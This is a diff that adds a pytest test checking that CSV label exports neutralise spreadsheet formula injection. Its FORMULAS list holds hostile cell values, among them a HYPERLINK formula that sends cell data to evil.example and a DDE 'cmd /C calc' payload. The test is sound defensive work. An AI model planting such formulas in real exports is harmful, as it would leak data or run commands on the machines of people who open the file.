@@ -339,3 +339,52 @@ def test_a_stalled_body_frees_its_thread(served, monkeypatch, capsys):
     assert _raw_post(base, "100", b"token=x", timeout=5) == b""  # closed after the timeout, not held
     assert fetch(base + "/")[0] == 200
     assert "Traceback" not in capsys.readouterr().err
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
+            "\t=1+1", "\r=1+1", "'=already quoted"]
+
+
+def test_label_exports_neutralise_formulas(tmp_path):
+    """Issue 16: a doc id, url or note beginning with = + - @ tab or CR was exported as-is to
+    export.csv, where a spreadsheet runs it. Such cells now begin with a ' and read back exactly."""
+    import csv
+
+    import pyarrow as pa
+
+    from quiltdetect.cli import main
+    from quiltdetect.common.csvsafe import restore_cell
+
+    root = make_run(tmp_path / "run")
+    quilts = pq.read_table(root / "quilts").to_pylist()
+    for q in quilts:
+        if q["doc_id"] == "quilt-0":
+            q["url"] = FORMULAS[0]  # a hostile crawled url
+    pq.write_table(pa.Table.from_pylist(quilts), root / "quilts" / "part-00000.parquet")
+    run = Run.open(root)
+    app = ReviewApp(run, LabelStore(tmp_path / "labels.sqlite"))
+    for i, formula in enumerate(FORMULAS):
+        app.store.set(run.key, formula if i else "quilt-0", "spam", FORMULAS[-1 - i])
+    server, base = serve_in_thread(app)
+    try:
+        status, _, body = fetch(base + "/export.csv")
+    finally:
+        server.shutdown()
+        server.server_close()
+    assert status == 200
+    via_cli = tmp_path / "labels.csv"
+    assert main(["review", "--run", str(root), "--db", str(tmp_path / "labels.sqlite"), "--export", str(via_cli)]) == 0
+    for data in (body, via_cli.read_bytes()):
+        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+        assert len(rows) == len(FORMULAS)
+        for row in rows:
+            for name in ("doc_id", "url", "note"):
+                cell = row[name]
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+        got = {restore_cell(r["doc_id"]): (restore_cell(r["url"]), restore_cell(r["note"])) for r in rows}
+        assert got["quilt-0"] == (FORMULAS[0], FORMULAS[-1])
+        for i, formula in enumerate(FORMULAS[1:], 1):
+            assert got[formula] == ("", FORMULAS[-1 - i])
+        quilt = next(r for r in rows if r["doc_id"] == "quilt-0")
+        assert float(quilt["patchfrac"]) == run.by_id["quilt-0"]["patchfrac"]  # numbers untouched
+        assert quilt["url"] == "'" + FORMULAS[0] and quilt["note"] == "''=already quoted"  # visible, readable
